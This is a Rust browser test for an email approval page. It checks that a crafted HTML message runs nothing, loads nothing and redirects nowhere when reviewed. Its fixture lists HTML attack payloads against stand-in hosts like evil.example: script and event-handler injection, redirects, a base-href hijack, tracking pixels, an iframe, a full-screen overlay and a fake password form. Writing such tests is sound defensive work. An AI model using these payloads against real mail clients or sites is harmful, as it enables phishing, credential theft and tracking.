//! A message that waits and whose text attacks the person who is to judge it, in a real browser: on the page of the
//! approval nothing of it runs, loads, leads away or covers anything.

use serde_json::json;
use testkit::require_browser;

use super::world::Pages;
use crate::{approvals::waiting, reading::sample_dovecot, world::PASSWORD};

const HOSTILE: &str = "From: alice@example.org\r\nTo: bob@example.net, carla@example.net, eve@example.net\r\n\
    Subject: Hi\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
    <html><head><meta http-equiv=refresh content=\"0;url=https://evil.example/refresh\">\
    <base href=https://evil.example/ target=_top><link rel=stylesheet href=https://evil.example/a.css>\
    <style>@import url(https://evil.example/b.css); body { background: url(https://track.example/c.png) }</style>\
    <script>top.hostile = 1; top.location = 'https://evil.example/top'; alert(1)</script>\
    <script src=https://evil.example/a.js></script></head>\
    <body onload=\"top.hostileLoad = 1\"><p>plain words</p>\
    <img src=https://track.example/a.png><img src=x onerror=\"top.hostileError = 1\">\
    <svg onload=\"top.hostileSvg = 1\"></svg><video src=https://track.example/a.mp4 autoplay></video>\
    <form id=f action=https://evil.example/form><input name=password autofocus><button>Send it</button></form>\
    <iframe src=https://evil.example/frame></iframe><object data=https://evil.example/object></object>\
    <div style=\"position:fixed;inset:0;z-index:9999;background:url(https://evil.example/x)\">covered words</div>\
    <a href=https://evil.example/link target=_top>a link</a></body></html>\r\n";

#[test]
fn hostile_html_runs_nothing_loads_nothing_and_leads_nowhere() {
    let Some(browser) = require_browser() else { return };
    let Some(dovecot) = sample_dovecot() else { return };
    let pages = Pages::with_mailbox(&dovecot, browser);
    let id = waiting(&pages.world, 9, HOSTILE);
    let wanted = json!({
        "origin": pages.origin(), "user": "alice", "password": PASSWORD, "path": format!("/approvals/{id}"),
        "shots": super::survey::shots(),
    });
    let walked = pages.browser.run("hostile", &wanted).unwrap_or_else(|error| panic!("{error}"));
    let words = walked["words"].as_str().unwrap();
    assert!(words.contains("plain words") && words.contains("covered words"), "it is shown: {walked}");
    assert_eq!((&walked["faults"], &walked["elsewhere"]), (&json!([]), &json!([])), "{walked}");
    assert_eq!((&walked["marks"], &walked["opened"]), (&json!([]), &json!([])), "{walked}");
    assert_eq!((&walked["risky"], &walked["fixed"]), (&json!(0), &json!(0)), "{walked}");
    assert_eq!((&walked["at"], &walked["visits"]), (&walked["here"], &json!([])), "{walked}");
    let here = walked["here"].as_str().unwrap();
    assert_eq!(walked["frames"], json!([here, format!("{here}/body")]), "{walked}");
}
